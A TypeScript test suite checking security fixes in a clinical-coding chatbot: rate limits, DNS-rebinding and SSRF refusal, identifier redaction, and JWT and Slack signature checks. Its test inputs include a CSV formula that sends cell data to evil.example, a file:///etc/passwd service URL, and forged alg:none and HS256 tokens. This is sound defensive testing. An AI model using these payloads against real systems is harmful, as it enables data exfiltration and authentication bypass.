// One anonymous client can no longer crash, silence or read through codebot: each finding of the
// security probe (issue 11), checked against the real app served in process.
import { execFileSync, spawnSync } from 'node:child_process';
import { createHmac, createSign, generateKeyPairSync, randomUUID } from 'node:crypto';
import { chmodSync, existsSync, mkdtempSync, rmSync } from 'node:fs';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import Database from 'better-sqlite3';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ConfigError, loadConfig } from '../src/config.js';
import { DirectLineConversations } from '../src/platforms/botframework/directline.js';
import { MemoryStore } from '../src/store/memory.js';
import { IDENTIFIER_REMINDER, redact, validNhsNumber } from '../src/store/redact.js';
import { buildReport, formatReport } from '../src/store/report.js';
import { SqliteStore, StoreOpenError } from '../src/store/sqlite.js';
import { FakeConnector, mention, teamsActivity } from './fake-connector.js';
import { eventBody, FakeSlack, formBody, signed, SIGNING_SECRET } from './fake-slack.js';
import { assistant, runCli } from './helpers.js';
import { serveInProcess, type InProcess } from './in-process.js';
import { LocalServer } from './local-server.js';

const JSON_TYPE = 'application/json';
const tmp = (prefix: string) => mkdtempSync(path.join(tmpdir(), `codebot-${prefix}-`));

describe('the Direct Line store is bounded and fair', () => {
  const clock = () => {
    const c = { t: 1_000_000, now: () => c.t };
    return c;
  };

  it('keeps activities within its byte budget, per conversation and in total', () => {
    const dl = new DirectLineConversations({ maxBytes: 1024 * 1024, conversationBytes: 64 * 1024, createPerMinute: 1000, perClient: 1000 });
    const made = [];
    for (let i = 0; i < 40; i++) {
      const m = dl.create(`10.0.0.${i}`);
      if (m.ok) made.push(m.conversation);
    }
    // 1 MiB / 64 KiB: sixteen conversations, and the seventeenth is refused, not squeezed in.
    expect(made).toHaveLength(16);
    for (const c of made) for (let j = 0; j < 50; j++) dl.push(c, { type: 'message', text: 'x'.repeat(8000) });
    expect(dl.bytes).toBeLessThanOrEqual(1024 * 1024);
    // What is left is the newest: older activities (already delivered) went first.
    const page = JSON.parse(dl.since(made[0]!, 0).json) as Array<{ id: string }>;
    expect(page.at(-1)!.id).toMatch(/\|0000049$/);
  });

  it('lets a client hold only a few conversations, so it can only ever push out its own', () => {
    const dl = new DirectLineConversations({ perClient: 3, createPerMinute: 1000 });
    const victim = dl.create('192.0.2.1');
    if (!victim.ok) throw new Error('victim not created');
    for (let i = 0; i < 10_000; i++) dl.create('192.0.2.66');
    expect(dl.size).toBe(4);
    expect(dl.get(victim.conversation.id)).toBeDefined();
  });

  it('refuses a new conversation when full instead of evicting someone else', () => {
    const dl = new DirectLineConversations({ maxBytes: 3 * 128 * 1024, createPerMinute: 1000 });
    const ids = ['a', 'b', 'c'].map((c) => dl.create(c)).map((m) => (m.ok ? m.conversation.id : ''));
    const refused = dl.create('d');
    expect(refused).toMatchObject({ ok: false, status: 503 });
    for (const id of ids) expect(dl.get(id)).toBeDefined();
  });

  it('limits new conversations per client per minute, and forgets idle ones', () => {
    const c = clock();
    const dl = new DirectLineConversations({ createPerMinute: 3, idleMs: 30 * 60_000 }, c.now);
    const first = dl.create('x');
    expect([dl.create('x').ok, dl.create('x').ok, dl.create('x')]).toEqual([true, true, expect.objectContaining({ ok: false, status: 429 })]);
    expect(dl.create('y').ok).toBe(true);
    c.t += 61_000;
    expect(dl.create('x').ok).toBe(true);
    c.t += 31 * 60_000;
    expect(dl.get(first.ok ? first.conversation.id : '')).toBeUndefined();
  });

  it('honours expires_in: a token runs out, refresh gives a new one and retires the old', () => {
    const c = clock();
    const dl = new DirectLineConversations({ tokenTtlSeconds: 60 }, c.now);
    const m = dl.create('x');
    if (!m.ok) throw new Error('not created');
    expect(dl.authorises(m.conversation, m.token)).toBe('ok');
    expect(dl.authorises(m.conversation, 'not-the-token')).toBe('invalid');
    c.t += 30_000;
    const fresh = dl.refresh(m.conversation);
    expect(fresh).not.toBe(m.token);
    expect(dl.withToken(m.token)).toBeUndefined();
    expect(dl.withToken(fresh)).toBe(m.conversation);
    c.t += 61_000;
    expect(dl.authorises(m.conversation, fresh)).toBe('expired');
    expect(dl.withToken(fresh)).toBe('expired');
  });
});

/** Raw HTTP, for the headers fetch will not send (Host) and a source address of our choosing. */
function raw(url: string, opts: { method?: string; headers?: Record<string, string>; body?: string; localAddress?: string } = {}): Promise<{ status: number; headers: Record<string, string | string[] | undefined>; body: string }> {
  return new Promise((resolve, reject) => {
    const req = request(url, { method: opts.method ?? 'GET', headers: opts.headers, ...(opts.localAddress ? { localAddress: opts.localAddress } : {}) }, (res) => {
      let body = '';
      res.setEncoding('latin1');
      res.on('data', (d: string) => (body += d));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body }));
    });
    req.on('error', reject);
    req.end(opts.body);
  });
}

describe('Direct Line over HTTP, local mode', () => {
  let s: InProcess;
  beforeAll(async () => {
    s = await serveInProcess({ CODEBOT_RATE_PER_USER: '2', CODEBOT_DIRECTLINE_PER_MINUTE: '5' });
  });
  afterAll(async () => await s.close());

  const open = async () => {
    const r = await fetch(`${s.base}/directline/conversations`, { method: 'POST' });
    expect(r.status).toBe(201);
    return (await r.json()) as { conversationId: string; token: string; expires_in: number };
  };
  const post = (c: { conversationId: string; token: string }, body: unknown) =>
    fetch(`${s.base}/directline/conversations/${c.conversationId}/activities`, { method: 'POST', headers: { authorization: `Bearer ${c.token}`, 'content-type': JSON_TYPE }, body: JSON.stringify(body) });
  const activities = async (c: { conversationId: string; token: string }) =>
    ((await (await fetch(`${s.base}/directline/conversations/${c.conversationId}/activities?watermark=0`, { headers: { authorization: `Bearer ${c.token}` } })).json()) as { activities: Array<Record<string, unknown>> }).activities;

  it('logs the web chat’s polling at debug, not info', async () => {
    const c = await open();
    const before = s.logs.length;
    for (let i = 0; i < 3; i++) await fetch(`${s.base}/directline/conversations/${c.conversationId}/activities?watermark=0`, { headers: { authorization: `Bearer ${c.token}` } });
    const polls = s.logs.slice(before).filter((l) => l.msg === 'request' && String(l.path).endsWith('/activities'));
    // The server logs at info here: routine polls are below it, so none shows.
    expect(polls).toEqual([]);
    await post(c, { type: 'message', text: 'what is J12.4' });
    expect(s.logs.slice(before).some((l) => l.msg === 'request' && l.method === 'POST')).toBe(true);
  });

  it('keeps nothing of a posted activity the bot does not need, and no dropped message', async () => {
    const c = await open();
    expect(c.expires_in).toBe(3600);
    const junk = { clientActivityID: 'abc123', padding: 'x'.repeat(60_000) };
    for (let i = 0; i < 5; i++) expect((await post(c, { type: 'message', text: 'what is J12.4', channelData: junk, unknownField: 'y'.repeat(1000) })).status).toBe(200);
    const all = await activities(c);
    const mine = all.filter((a) => (a.from as { role?: string }).role === 'user');
    // Two answered, one told to slow down; the two dropped after that are not kept.
    expect(mine).toHaveLength(3);
    expect(mine[0]!.channelData).toEqual({ clientActivityID: 'abc123' });
    expect(mine[0]).not.toHaveProperty('unknownField');
    const ready = (await (await fetch(`${s.base}/readyz`)).json()) as { checks: { directLine: { bytes: number } } };
    expect(ready.checks.directLine.bytes).toBeLessThan(100_000);
  });

  it('limits new conversations per client address', async () => {
    const statuses = [];
    for (let i = 0; i < 6; i++) statuses.push((await fetch(`${s.base}/directline/tokens/generate`, { method: 'POST' })).status);
    expect(statuses).toContain(429);
    // Another address is not affected.
    const other = await raw(`${s.base}/directline/tokens/generate`, { method: 'POST', localAddress: '127.0.0.2' });
    expect(other.status).toBe(200);
  });

  it('refreshes a token, and refuses the old one', async () => {
    const g = await raw(`${s.base}/directline/tokens/generate`, { method: 'POST', localAddress: '127.0.0.3' });
    const { token, conversationId } = JSON.parse(g.body) as { token: string; conversationId: string };
    const r = await raw(`${s.base}/directline/tokens/refresh`, { method: 'POST', headers: { authorization: `Bearer ${token}` }, localAddress: '127.0.0.3' });
    const fresh = (JSON.parse(r.body) as { token: string }).token;
    expect(fresh).not.toBe(token);
    const url = `${s.base}/directline/conversations/${conversationId}/activities`;
    expect((await fetch(url, { headers: { authorization: `Bearer ${token}` } })).status).toBe(403);
    expect((await fetch(url, { headers: { authorization: `Bearer ${fresh}` } })).status).toBe(200);
  });

  it('refuses requests addressed to another host name (DNS rebinding)', async () => {
    const port = new URL(s.base).port;
    const evil = await raw(`${s.base}/`, { headers: { host: `evil.example:${port}` } });
    expect(evil.status).toBe(421);
    const api = await raw(`${s.base}/api/messages`, { method: 'POST', headers: { host: `rebound.example:${port}`, 'content-type': JSON_TYPE }, body: '{}' });
    expect(api.status).toBe(421);
    expect((await raw(`${s.base}/healthz`, { headers: { host: `localhost:${port}` } })).status).toBe(200);
    expect(s.logs.some((l) => l.msg === 'local mode: request for another host name refused')).toBe(true);
  });

  it('sends replies in local mode only to loopback service URLs', async () => {
    const internal = new (class extends LocalServer {
      hits = 0;
      protected handle(_req: unknown, _raw: string, res: import('node:http').ServerResponse): void {
        this.hits++;
        res.writeHead(200, { 'content-type': JSON_TYPE }).end('{"id":"1"}');
      }
    })();
    await internal.start();
    for (const serviceUrl of ['http://10.20.30.40:47001/internal-only/', 'http://evil.example/', 'file:///etc/passwd', 'not a url']) {
      const res = await fetch(`${s.base}/api/messages`, { method: 'POST', headers: { 'content-type': JSON_TYPE }, body: JSON.stringify(teamsActivity(serviceUrl, mention('what is J12.4'))) });
      expect(res.status).toBe(400);
      expect(await res.text()).toMatch(/serviceUrl/);
    }
    // A loopback address is still served (the local Bot Framework Emulator's way).
    const ok = await fetch(`${s.base}/api/messages`, { method: 'POST', headers: { 'content-type': JSON_TYPE }, body: JSON.stringify(teamsActivity(`${internal.base}/`, mention('what is J12.4'))) });
    expect(ok.status).toBe(200);
    expect(internal.hits).toBeGreaterThan(0);
    await internal.stop();
  });

  it('sends the usual security headers, and the Web Chat bundle compressed and cacheable', async () => {
    const page = await fetch(`${s.base}/`);
    const csp = page.headers.get('content-security-policy') ?? '';
    expect(csp).toMatch(/default-src 'self'/);
    expect(csp).toMatch(/script-src 'self'(;|$)/);
    expect(csp).toMatch(/frame-ancestors 'none'/);
    expect(page.headers.get('x-content-type-options')).toBe('nosniff');
    expect(page.headers.get('referrer-policy')).toBe('no-referrer');
    expect(await page.text()).not.toMatch(/<script>/);
    const bundle = await raw(`${s.base}/webchat/webchat.js`, { headers: { 'accept-encoding': 'gzip' } });
    expect(bundle.status).toBe(200);
    expect(bundle.headers['content-encoding']).toBe('gzip');
    expect(String(bundle.headers['cache-control'])).toMatch(/max-age=86400/);
    expect(bundle.headers.etag).toBeDefined();
    // 3.9 MB uncompressed; well under half of that on the wire.
    expect(bundle.body.length).toBeLessThan(1_500_000);
    expect((await fetch(`${s.base}/healthz`)).headers.get('x-content-type-options')).toBe('nosniff');
  });
});

describe('configuration keeps unauthenticated surfaces on this machine', () => {
  const load = (env: Record<string, string>) => loadConfig(env, '/nonexistent/.env');

  it('turns the web chat on by itself only on a loopback address', () => {
    expect(load({}).webchat.enabled).toBe(true);
    expect(load({ HOST: '::1' }).webchat.enabled).toBe(true);
    const open = load({ HOST: '0.0.0.0', MicrosoftAppId: 'app', MicrosoftAppPassword: 'pw' });
    expect(open.webchat).toEqual({ enabled: false, reason: expect.stringMatching(/not a loopback address.*CODEBOT_WEBCHAT=on/) });
    expect(load({ HOST: '0.0.0.0', MicrosoftAppId: 'app', MicrosoftAppPassword: 'pw', CODEBOT_WEBCHAT: 'on' }).webchat.enabled).toBe(true);
  });

  it('refuses local mode on a network address, or turns the Bot Framework endpoint off for a Slack-only server', () => {
    expect(() => load({ HOST: '0.0.0.0' })).toThrow(ConfigError);
    expect(() => load({ HOST: '192.168.1.10' })).toThrow(/HOST: local mode/);
    const slackOnly = load({ HOST: '0.0.0.0', SLACK_SIGNING_SECRET: 's', SLACK_BOT_TOKEN: 'xoxb-1' });
    expect(slackOnly.botFramework).toMatchObject({ enabled: false, local: false });
    expect(slackOnly.webchat.enabled).toBe(false);
    expect(load({ HOST: '127.0.0.5' }).botFramework).toMatchObject({ enabled: true, local: true });
  });
});

describe('patient identifiers are redacted in the forms people paste them', () => {
  const NBSP = '\u00a0';
  it.each([
    `943${NBSP}476${NBSP}5919`,
    '943  476  5919',
    '943.476.5919',
    '94 34 76 59 19',
    '943 4765 919',
    `943\u202f476\u20095919`,
    'NHS number 943 476 5918',
  ])('NHS number %j', (nhs) => {
    const r = redact(`pt ${nhs} perc RFA of liver mets`);
    expect(r.text).toMatch(/^pt (NHS number )?\[NHS number\] perc RFA of liver mets$/);
  });

  it.each(['February 7, 1965', '1967/09/10', '12th of March 1969', '8 Feb 66', '7th Feb 1965', '01.02.1960', '1960-02-01'])('date %j', (date) => {
    expect(redact(`DOB ${date}, perc RFA of liver mets`).text).toBe('DOB [date], perc RFA of liver mets');
  });

  it('redacts hospital numbers and names after a title, and leaves codes and clinical words alone', () => {
    expect(redact('hospital number RXH1234567, perc RFA of liver mets').text).toBe('[hospital number], perc RFA of liver mets');
    expect(redact('MRN 1234567 had a lap chole').text).toBe('[hospital number] had a lap chole');
    expect(redact('Mrs Jane Smith had TAVI; Dr O’Brien asks about Y53.9').text).toBe('[name] had TAVI; [name] asks about Y53.9');
    const clinical = 'MR of liver, MS patient, J12.4 Y53.9 C78.7 X70-X71, Bands 1-10, IPG327, 3 lesions, stage 2 disease';
    expect(redact(clinical)).toEqual({ text: clinical, found: [] });
  });

  it('finds a valid NHS number however it is split and spaced (property)', () => {
    const nhs = fc
      .array(fc.integer({ min: 0, max: 9 }), { minLength: 9, maxLength: 9 })
      .map((d) => {
        const sum = d.reduce((s, x, i) => s + x * (10 - i), 0);
        const check = (11 - (sum % 11)) % 11;
        return check === 10 ? null : `${d.join('')}${check}`;
      })
      .filter((x): x is string => x !== null);
    const sep = fc.constantFrom(' ', '  ', '\u00a0', '\u202f', '\u2009', '-', '.', '\u2013', '');
    const split = fc.tuple(nhs, fc.array(sep, { minLength: 9, maxLength: 9 }), fc.array(fc.boolean(), { minLength: 9, maxLength: 9 }));
    const around = fc.constantFrom(['', ''], ['pt ', ' had perc RFA of liver mets'], ['NHS no: ', ', how do I code TAVI?'], ['(', ')']);
    fc.assert(
      fc.property(split, around, ([digits, seps, cuts], [before, after]) => {
        expect(validNhsNumber(digits)).toBe(true);
        let written = digits[0]!;
        for (let i = 1; i < 10; i++) written += (cuts[i - 1] ? seps[i - 1]! : '') + digits[i]!;
        const r = redact(`${before}${written}${after}`);
        expect(r.text.replace(/\D/g, '')).not.toContain(digits);
        expect(r.found).toContain('nhs_number');
      }),
      { numRuns: 500, seed: 11 },
    );
  });

  it('still answers the question, with the reminder, and never echoes the identifier', async () => {
    const a = assistant();
    for (const q of ['78 year old man, perc RFA of liver mets', 'hospital number RXH1234567, perc RFA of liver mets', `Mrs Jane Smith 943${NBSP}476${NBSP}5919 perc RFA of liver mets`]) {
      const reply = await a.handle({ text: q, conversation: { platform: 'test', channel: randomUUID(), thread: null }, user: 'u' });
      expect(reply?.guidance).toEqual(['IPG327']);
      expect(reply?.codes.map((c) => c.code)).toContain('J12.4');
      const out = JSON.stringify(reply);
      for (const id of ['RXH1234567', 'Jane', 'Smith', '5919']) expect(out).not.toContain(id);
    }
    const identified = await a.handle({ text: 'hospital number RXH1234567, perc RFA of liver mets', conversation: { platform: 'test', channel: 'c', thread: null }, user: 'u' });
    expect(identified?.notices).toContain(IDENTIFIER_REMINDER);
  });

  it('redacts in every CLI command too: batch goes through the same pipeline as the server', async () => {
    const { stdout: out } = await runCli(['batch'], 'patient at LS1 4AP had single incision lap chole, how to code\nMrs Jane Smith LS1 4AP carpal tunnel release codes\n');
    const [first, second] = out.trim().split('\n').map((l) => JSON.parse(l) as { guidance: string[]; notices: string[]; text: string });
    expect(first!.guidance).toEqual(['IPG346']);
    expect(first!.notices).toContain(IDENTIFIER_REMINDER);
    expect(out).not.toMatch(/LS1 4AP|Jane|Smith/);
    expect(second!.notices).toContain(IDENTIFIER_REMINDER);
  });
});

describe('the report and feedback take nothing from the client on trust', () => {
  it('writes questions into CSV so a spreadsheet never runs them as formulas, and keeps one row per line', async () => {
    const store = new MemoryStore();
    const a = (await import('../src/assistant/assistant.js')).Assistant;
    const b = new a(assistant().kb, assistant().nlu, { store, limits: null });
    for (const q of ['=HYPERLINK("http://evil.example/?x="&A1,"click") carpal tunnel release code', '+SUM(A1:A9) hip replacement code', '-2+3 shoulder replacement code', '@cmd elbow replacement code', 'first\rsecond hair transplant code']) {
      await b.handle({ text: q, conversation: { platform: 't', channel: randomUUID(), thread: null }, user: 'u' });
    }
    const csv = formatReport(await buildReport(store, new Date(0)), 'csv');
    const cells = csv.split(/\n/).map((l) => l.split(',')[1] ?? '');
    for (const cell of cells) expect(cell).not.toMatch(/^"?[=+\-@]/);
    expect(csv).toContain(`"'=HYPERLINK(`);
    expect(csv).toMatch(/"first\rsecond hair transplant code"/);
    // Every line is a whole row: a section name first.
    for (const line of csv.split('\n')) expect(line).toMatch(/^(section|summary|gap|intent|helpful|latency_ms|hour_utc),/);
  });

  it('credits feedback with the audited answer’s intent and guidance, whatever the button said', async () => {
    const store = new MemoryStore();
    const { Assistant } = await import('../src/assistant/assistant.js');
    const b = new Assistant(assistant().kb, assistant().nlu, { store, limits: null });
    await b.handle({ text: 'what is J12.4', conversation: { platform: 't', channel: 'c', thread: null }, user: 'u' });
    await b.feedback({ platform: 't', channel: 'c', user: 'u', helpful: true, ...({ intent: '943 476 5919', guidance: ['SW1A 1AA'] } as object) });
    const [row] = await store.feedbackRows(new Date(0));
    expect(row).toMatchObject({ intent: 'code_lookup', guidance: ['IPG327'], helpful: true });
    expect(JSON.stringify(await store.feedbackRows(new Date(0)))).not.toMatch(/5919|SW1A/);
  });
});

describe('the SQLite store on disk', () => {
  it('purges expired conversation state and event ids from the file, not just from reads', async () => {
    let now = 10_000_000;
    const file = path.join(tmp('expire'), 'db.sqlite');
    const s = new SqliteStore(file, { stateTtlMs: 1000, eventTtlMs: 500, now: () => now });
    await s.conversations.set('k1', { guidance: 'IPG327', group: null, codes: [], intent: null, question: null });
    await s.events.claim('Ev1');
    await s.events.done('Ev1');
    now += 2000;
    expect(await s.expire()).toEqual({ conversations: 1, events: 1 });
    const db = new Database(file, { readonly: true });
    expect(db.prepare('SELECT count(*) AS n FROM conversations').get()).toEqual({ n: 0 });
    expect(db.prepare('SELECT count(*) AS n FROM events').get()).toEqual({ n: 0 });
    db.close();
    await s.close();
  });

  const root = process.getuid?.() === 0;
  /** Read-only even for root (chattr +i), or plainly for anyone else. */
  const lock = (files: string[]) => {
    if (root) execFileSync('chattr', ['+i', ...files]);
    else for (const f of files) chmodSync(f, 0o444);
  };
  const unlock = (files: string[]) => {
    if (root) spawnSync('chattr', ['-i', ...files]);
    else for (const f of files) if (existsSync(f)) chmodSync(f, 0o644);
  };

  it('refuses to start on a read-only database file, naming the file', () => {
    const dir = tmp('ro');
    const file = path.join(dir, 'db.sqlite');
    new SqliteStore(file).close();
    lock([file]);
    try {
      expect(() => new SqliteStore(file)).toThrow(StoreOpenError);
      expect(() => new SqliteStore(file)).toThrow(/database file is read-only/);
    } finally {
      unlock([file]);
    }
  });

  it('names a read-only folder as the folder, not the file', () => {
    const dir = tmp('rodir');
    lock([dir]);
    try {
      expect(() => new SqliteStore(path.join(dir, 'db.sqlite'))).toThrow(/the folder is read-only/);
      expect(() => new SqliteStore(path.join(dir, 'sub', 'db.sqlite'))).toThrow(/cannot create the folder .*sub/);
    } finally {
      unlock([dir]);
    }
  });

  it('refuses a path under /proc at once instead of hanging', () => {
    const started = performance.now();
    expect(() => new SqliteStore('/proc/codebot/x.db')).toThrow(/\/proc, \/sys and \/dev cannot hold a database/);
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it('reports not ready on /readyz once the database stops taking writes', async () => {
    const dir = tmp('readyz');
    const file = path.join(dir, 'db.sqlite');
    const store = new SqliteStore(file);
    const s = await serveInProcess({}, { store });
    try {
      expect((await fetch(`${s.base}/readyz`)).status).toBe(200);
      // Not the -shm file: SQLite maps it into memory, and a write there would be a signal, not an error.
      const files = [file, `${file}-wal`].filter(existsSync);
      lock(files);
      try {
        const res = await fetch(`${s.base}/readyz`);
        expect(res.status).toBe(503);
        expect(((await res.json()) as { checks: { store: { ok: boolean } } }).checks.store.ok).toBe(false);
      } finally {
        unlock(files);
      }
    } finally {
      await s.close();
      await store.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

/** A stand-in for login.botframework.com's OpenID metadata and signing keys, on 127.0.0.1. */
class FakeKeys extends LocalServer {
  readonly keys = generateKeyPairSync('rsa', { modulusLength: 2048 });
  readonly kid = 'test-key-1';
  protected handle(req: import('node:http').IncomingMessage, _raw: string, res: import('node:http').ServerResponse): void {
    if (req.url === '/openid') {
      res.writeHead(200, { 'content-type': JSON_TYPE }).end(JSON.stringify({ issuer: 'https://api.botframework.com', jwks_uri: `${this.base}/keys`, id_token_signing_alg_values_supported: ['RS256'] }));
      return;
    }
    const jwk = this.keys.publicKey.export({ format: 'jwk' });
    res.writeHead(200, { 'content-type': JSON_TYPE }).end(JSON.stringify({ keys: [{ ...jwk, kid: this.kid, use: 'sig', alg: 'RS256', endorsements: ['msteams'] }] }));
  }
}

const b64 = (v: unknown) => Buffer.from(typeof v === 'string' ? v : JSON.stringify(v)).toString('base64url');

describe('Bot Framework authentication failures are 401s, not 500s', () => {
  let keys: FakeKeys;
  let connector: FakeConnector;
  let s: InProcess;
  const APP = '00000000-0000-0000-0000-00000000a11d';
  beforeAll(async () => {
    keys = await new FakeKeys().start();
    connector = await new FakeConnector().start();
    s = await serveInProcess({ MicrosoftAppId: APP, MicrosoftAppPassword: 'test-password-not-real', BOTFRAMEWORK_OPENID_METADATA_URL: `${keys.base}/openid` });
  });
  afterAll(async () => {
    await s.close();
    await keys.stop();
    await connector.stop();
  });

  const claims = () => ({ iss: 'https://api.botframework.com', aud: APP, serviceurl: connector.url, nbf: Math.floor(Date.now() / 1000) - 60, exp: Math.floor(Date.now() / 1000) + 600 });
  const rs256 = (header: object, payload: object, key = keys.keys.privateKey) => {
    const input = `${b64(header)}.${b64(payload)}`;
    return `${input}.${createSign('RSA-SHA256').update(input).sign(key).toString('base64url')}`;
  };
  const send = (token: string | null) =>
    fetch(`${s.base}/api/messages`, {
      method: 'POST',
      headers: { 'content-type': JSON_TYPE, ...(token !== null ? { authorization: `Bearer ${token}` } : {}) },
      body: JSON.stringify(teamsActivity(connector.url, mention('what is J12.4'))),
    });

  it('takes a token signed with the published key (so the refusals below are about the token)', async () => {
    const res = await send(rs256({ alg: 'RS256', typ: 'JWT', kid: keys.kid }, claims()));
    expect(res.status, JSON.stringify(s.logs.filter((l) => l.level !== 30).slice(-3))).not.toBe(401);
  });

  it.each([
    ['no token', () => null],
    ['a known key id with a wrong signature', () => rs256({ alg: 'RS256', typ: 'JWT', kid: keys.kid }, claims(), generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey)],
    ['alg: none', () => `${b64({ alg: 'none', typ: 'JWT', kid: keys.kid })}.${b64(claims())}.`],
    ['HS256 keyed with the public key', () => {
      const input = `${b64({ alg: 'HS256', typ: 'JWT', kid: keys.kid })}.${b64(claims())}`;
      return `${input}.${createHmac('sha256', keys.keys.publicKey.export({ format: 'pem', type: 'spki' })).update(input).digest('base64url')}`;
    }],
    ['garbage', () => 'not.a.token'],
  ])('%s', async (_name, token) => {
    const before = s.logs.length;
    const res = await send(token());
    expect(res.status).toBe(401);
    expect(res.headers.get('content-type')).toMatch(/json/);
    const logged = s.logs.slice(before).filter((l) => l.msg === 'Bot Framework request refused: authentication failed');
    expect(logged).toHaveLength(1);
    expect(JSON.stringify(s.logs.slice(before))).not.toMatch(/test-password-not-real|Bearer /);
  });
});

describe('Slack edge cases', () => {
  let slack: FakeSlack;
  let s: InProcess;
  const send = (body: string, type: string, opts?: Parameters<typeof signed>[2]) => fetch(`${s.base}/slack/events`, signed(body, type, opts));
  beforeAll(async () => {
    slack = await new FakeSlack().start();
    s = await serveInProcess({ SLACK_SIGNING_SECRET: SIGNING_SECRET, SLACK_BOT_TOKEN: 'xoxb-test-token-not-real', SLACK_API_URL: `${slack.base}/api/` });
  });
  afterAll(async () => {
    await s.close();
    await slack.stop();
  });

  it('refuses timestamps more than five minutes in the future, as it does old ones', async () => {
    const body = eventBody({ type: 'app_mention', user: 'U1', channel: 'C1', ts: '1700000000.100001', text: '<@UBOT> what is J12.4' });
    expect((await send(body, JSON_TYPE, { ts: Math.floor(Date.now() / 1000) + 600 })).status).toBe(401);
    expect((await send(body, JSON_TYPE, { ts: Math.floor(Date.now() / 1000) - 600 })).status).toBe(401);
  });

  it('answers a replayed signed slash command once', async () => {
    const from = slack.calls.length;
    const init = signed(formBody({ command: '/code', text: 'J12.4', user_id: 'U1', channel_id: 'C1', team_id: 'T1', response_url: `${slack.base}/response/replay`, trigger_id: 't', token: 'x' }), 'application/x-www-form-urlencoded');
    expect((await fetch(`${s.base}/slack/events`, init)).status).toBe(200);
    expect((await fetch(`${s.base}/slack/events`, init)).status).toBe(200);
    await slack.waitFor(from, 1);
    // The replay is refused before Bolt sees it; the log line is the signal that both were handled.
    expect(s.logs.filter((l) => l.msg === 'replayed Slack request ignored')).toHaveLength(1);
    expect(slack.posts(from).filter((c) => c.method.includes('response/replay'))).toHaveLength(1);
  });

  it('gives a 4xx, not a 500, for a signed null body or a button press without a channel', async () => {
    expect((await send('null', JSON_TYPE)).status).toBe(400);
    expect((await send('[1,2]', JSON_TYPE)).status).toBe(400);
    const noChannel = formBody({ payload: JSON.stringify({ type: 'block_actions', user: { id: 'U1' }, team: { id: 'T1' }, actions: [{ action_id: 'codebot_feedback_yes', value: '{}' }] }) });
    expect((await send(noChannel, 'application/x-www-form-urlencoded')).status).toBe(400);
    expect((await send('payload=%7Bbroken', 'application/x-www-form-urlencoded')).status).toBe(400);
    expect((await fetch(`${s.base}/healthz`)).status).toBe(200);
  });
});

describe('feedback is credited to the answer whose button was pressed', () => {
  it('with two answers in one Slack channel, feedback on the first lands on the first', async () => {
    const slack = await new FakeSlack().start();
    const store = new MemoryStore();
    const s = await serveInProcess({ SLACK_SIGNING_SECRET: SIGNING_SECRET, SLACK_BOT_TOKEN: 'xoxb-test-token-not-real', SLACK_API_URL: `${slack.base}/api/` }, { store });
    try {
      const send = (body: string, type: string) => fetch(`${s.base}/slack/events`, signed(body, type));
      const from = slack.calls.length;
      await send(eventBody({ type: 'app_mention', user: 'U1', channel: 'C9', ts: '1700000100.000100', text: '<@UBOT> how do I code percutaneous RFA of liver mets?' }), JSON_TYPE);
      await slack.waitFor(from, 1);
      await send(eventBody({ type: 'app_mention', user: 'U1', channel: 'C9', ts: '1700000100.000200', text: '<@UBOT> how do I code microwave ablation of HCC' }), JSON_TYPE);
      const [first, second] = await slack.waitFor(from, 2);
      const feedbackValue = (post: typeof first) =>
        (post!.body.blocks as Array<{ elements?: Array<{ action_id?: string; value?: string }> }>).flatMap((b) => b.elements ?? []).find((e) => e.action_id === 'codebot_feedback_yes_0')!.value!;
      expect(feedbackValue(first)).not.toBe(feedbackValue(second));
      const payload = {
        type: 'block_actions',
        user: { id: 'U1' },
        team: { id: 'T1' },
        channel: { id: 'C9' },
        message: { ts: '1700000101.000001', thread_ts: '1700000100.000100' },
        response_url: `${slack.base}/response/fb1`,
        actions: [{ action_id: 'codebot_feedback_yes_0', value: feedbackValue(first), type: 'button' }],
      };
      expect((await send(formBody({ payload: JSON.stringify(payload) }), 'application/x-www-form-urlencoded')).status).toBe(200);
      await slack.waitFor(from, 3);
      const audits = await store.auditRows(new Date(0));
      const [fb] = await store.feedbackRows(new Date(0));
      expect(fb!.auditId).toBe(audits.find((r) => r.guidance.includes('IPG327'))!.id);
      expect(fb!.guidance).toEqual(['IPG327']);
    } finally {
      await s.close();
      await slack.stop();
    }
  });
});
